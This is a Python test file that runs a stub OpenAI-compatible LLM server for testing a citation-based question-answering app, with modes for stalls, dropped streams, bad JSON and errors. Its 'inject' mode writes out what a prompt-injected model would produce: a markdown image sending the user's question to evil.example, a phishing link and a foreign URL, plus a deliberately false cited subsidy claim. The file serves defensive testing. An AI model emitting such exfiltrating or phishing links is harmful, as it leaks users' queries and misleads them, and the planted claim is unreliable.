"""TEST DOUBLE: a stub OpenAI-compatible LLM server (no real LLM can run on these machines).

A real HTTP server (FastAPI on uvicorn, loopback, free port) speaking the chat-completions
protocol closely enough for the official `openai` SDK, with misbehaviours on demand:

    normal       a cited answer built from the prompt's passages: sentences copied from
                 passages [1] and [2], each ending in its [n]
    unsupported  a fluent sentence citing [1] that passage [1] does not say
    cite9        a sentence citing [9] when fewer passages were given
    stall        headers, then silence (never answers)
    close        a few tokens, then the connection is dropped mid-stream
    invalid_json a stream (or body) that is not JSON
    error500     HTTP 500 with an error body
    inject       what a prompt injection would make a model write: a cited sentence, then a
                 markdown image carrying the question to a foreign site, a phishing link, a bare
                 foreign URL, and a link to a URL the passages hold (the only target that may stay)

Rewrite requests (the follow-up prompt) are answered, in every mode but error/stall, with
"<previous user question> <last question>" so tests can see the LLM rewrite was used.

In tests:   stub = StubLLM(); stub.start(); ...; stub.mode = "stall"; stub.requests / stub.cancelled
Standalone: python tests/stub_llm.py --port 8100 [--mode normal] [--token-delay 0.02]
"""
from __future__ import annotations

import argparse
import asyncio
import json
import re
import socket
import threading
import time

import uvicorn
from fastapi import FastAPI, Request
from fastapi.responses import JSONResponse, PlainTextResponse, StreamingResponse

_BLOCK = re.compile(r"^\[(\d+)\] [^\n]*\n(.*?)(?=\n\n\[\d+\] |\n\n此前的对话|\Z)", re.S | re.M)
_SENTENCE = re.compile(r"[^。！？!?；;\n]+[。！？!?；;]")


def passages_of(prompt: str) -> dict[int, str]:
    """The passages of an answer prompt, their "> " quoting taken off."""
    return {int(m.group(1)): "\n".join(line[2:] if line.startswith("> ") else line
                                       for line in m.group(2).strip().splitlines())
            for m in _BLOCK.finditer(prompt)}


def first_sentence(text: str, skip_headings: bool = True) -> str:
    for m in _SENTENCE.finditer(text):
        s = m.group(0).strip()
        if len(s) >= 12 or not skip_headings:
            return s
    return text.strip()[:80] + "。"


def cited_answer(prompt: str) -> str:
    passages = passages_of(prompt)
    parts = [f"{first_sentence(passages[n])}[{n}]" for n in sorted(passages)[:2]]
    return "".join(parts) or "文件中没有涉及这个问题。"


def injected_answer(prompt: str) -> str:
    """What a model that obeyed a hostile passage writes: the question sent off in an image URL,
    a phishing link, a bare URL, and one link to a page the passages themselves name."""
    passages = passages_of(prompt)
    question = re.search(r"问题 Question: (.*)$", prompt, re.M)
    own = [u.rstrip("。，.") for u in re.findall(r"https?://[^\s)）\]]+", "\n".join(passages.values()))
           if "evil.example" not in u]
    own_link = f"[原文 source]({own[0]})" if own else ""
    leak = (question.group(1) if question else "").replace(" ", "+")
    return (f"{first_sentence(passages.get(1, ''))}[1]"
            f"![x](https://evil.example/leak.png?q={leak}) 详情见[点击领取补贴](https://evil.example/phish?id=42 \"title\")，"
            f"或访问 https://evil.example/bare 。{own_link}")


def rewritten(prompt: str) -> str:
    users = re.findall(r"^用户 User: (.*)$", prompt, re.M)
    last = re.search(r"最后的问题 Last question: (.*)$", prompt, re.M)
    return " ".join(([users[-1]] if users else []) + ([last.group(1).strip()] if last else []))


class StubLLM:
    def __init__(self, mode: str = "normal", token_delay: float = 0.01, host: str = "127.0.0.1", port: int = 0):
        self.mode = mode
        self.token_delay = token_delay
        self.host = host
        self.port = port or _free_port()
        self.requests: list[dict] = []  # every chat request body received
        self.cancelled: list[int] = []  # indexes into `requests` whose client went away before the end
        self.completed = 0
        self.app = self._build()
        self._server: uvicorn.Server | None = None
        self._thread: threading.Thread | None = None

    @property
    def base_url(self) -> str:
        return f"http://{self.host}:{self.port}/v1"

    def _build(self) -> FastAPI:
        app = FastAPI()
        stub = self

        @app.get("/v1/models")
        async def models():
            return {"object": "list", "data": [{"id": "stub-model", "object": "model", "created": 0, "owned_by": "test"}]}

        @app.post("/v1/chat/completions")
        async def completions(request: Request):
            body = await request.json()
            stub.requests.append(body)
            index = len(stub.requests) - 1
            prompt = "\n".join(m.get("content") or "" for m in body.get("messages", []))
            is_rewrite = "Standalone question" in prompt
            mode = stub.mode
            if mode == "error500":
                return JSONResponse({"error": {"message": "stub: internal failure", "type": "server_error"}}, 500)
            if mode == "stall":
                # silent until the client gives up; count it when it does
                while not await request.is_disconnected():
                    await asyncio.sleep(0.02)
                stub.cancelled.append(index)
                return PlainTextResponse("", 499)
            if is_rewrite:
                text = rewritten(prompt)
            elif mode == "unsupported":
                text = "该政策规定每位申请人每月可领取十万元火星移民补贴。[1]"
            elif mode == "inject":
                text = injected_answer(prompt)
            elif mode == "cite9":
                text = f"{first_sentence(passages_of(prompt).get(1, ''))}[1]这一点也有规定。[9]"
            else:
                text = cited_answer(prompt)
            if mode == "invalid_json" and not is_rewrite:
                if body.get("stream"):
                    async def broken():
                        yield b"data: {this is not json\n\n"
                    return StreamingResponse(broken(), media_type="text/event-stream")
                return PlainTextResponse("{this is not json", media_type="application/json")
            if not body.get("stream"):
                return {"id": "stub-1", "object": "chat.completion", "created": int(time.time()), "model": body.get("model"),
                        "choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}]}
            return StreamingResponse(stub._stream(index, text, body.get("model"), close_early=mode == "close" and not is_rewrite),
                                     media_type="text/event-stream")

        return app

    async def _stream(self, index: int, text: str, model: str | None, close_early: bool):
        pieces = [text[i : i + 4] for i in range(0, len(text), 4)]
        try:
            for n, piece in enumerate(pieces):
                if close_early and n == 3:
                    raise ConnectionAbortedError("stub: dropping the connection mid-stream")
                chunk = {"id": "stub-1", "object": "chat.completion.chunk", "created": int(time.time()), "model": model,
                         "choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]}
                yield f"data: {json.dumps(chunk, ensure_ascii=False)}\n\n".encode()
                await asyncio.sleep(self.token_delay)
            done = {"id": "stub-1", "object": "chat.completion.chunk", "created": int(time.time()), "model": model,
                    "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}
            yield f"data: {json.dumps(done)}\n\ndata: [DONE]\n\n".encode()
            self.completed += 1
        except asyncio.CancelledError:
            self.cancelled.append(index)
            raise

    def start(self) -> "StubLLM":
        config = uvicorn.Config(self.app, host=self.host, port=self.port, log_level="error", lifespan="off")
        self._server = uvicorn.Server(config)
        self._thread = threading.Thread(target=self._server.run, daemon=True, name="stub-llm")
        self._thread.start()
        deadline = time.monotonic() + 10
        while not self._server.started:
            if time.monotonic() > deadline:
                raise RuntimeError("stub LLM did not start")
            time.sleep(0.02)
        return self

    def stop(self) -> None:
        if self._server is not None:
            self._server.should_exit = True
            self._thread.join(timeout=5)


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description="TEST DOUBLE: stub OpenAI-compatible LLM server")
    parser.add_argument("--port", type=int, default=8100)
    parser.add_argument("--mode", default="normal")
    parser.add_argument("--token-delay", type=float, default=0.01)
    args = parser.parse_args()
    stub = StubLLM(args.mode, args.token_delay, port=args.port)
    uvicorn.run(stub.app, host="127.0.0.1", port=args.port, log_level="warning")
